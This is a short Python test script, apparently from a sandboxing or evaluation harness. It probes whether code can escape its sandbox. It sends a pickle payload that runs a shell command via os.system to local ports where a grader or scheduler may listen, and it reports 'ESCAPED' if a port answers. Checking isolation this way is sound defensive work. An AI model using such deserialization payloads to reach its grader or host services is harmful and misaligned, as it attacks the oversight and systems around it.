# Sends a pickle to every local port that a grader or a scheduler may listen on.
import socket

payload = b"cos\nsystem\n(S'touch @PLAYGROUND@/hostile-port'\ntR."
for port in (22, 80, 8000, 8080, 8786, 8787, 8888, *range(49152, 49252)):
    try:
        with socket.create_connection(("127.0.0.1", port), 0.05) as connection:
            connection.sendall(payload)
    except OSError:
        continue
    raise SystemError(f"ESCAPED: reached port {port}")
